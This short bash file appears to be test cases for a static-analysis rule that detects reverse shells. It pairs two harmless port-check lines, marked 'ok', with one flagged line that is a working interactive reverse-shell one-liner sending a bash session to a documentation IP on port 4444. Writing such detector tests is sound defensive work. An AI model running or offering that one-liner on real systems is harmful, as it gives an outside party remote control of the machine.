#!/bin/bash
# ok: reverse-shell
if timeout 2 bash -c "echo > /dev/tcp/198.51.100.5/443"; then echo "port open"; fi
# ok: reverse-shell
nc -z -w 2 198.51.100.5 443 && echo reachable
# ruleid: reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
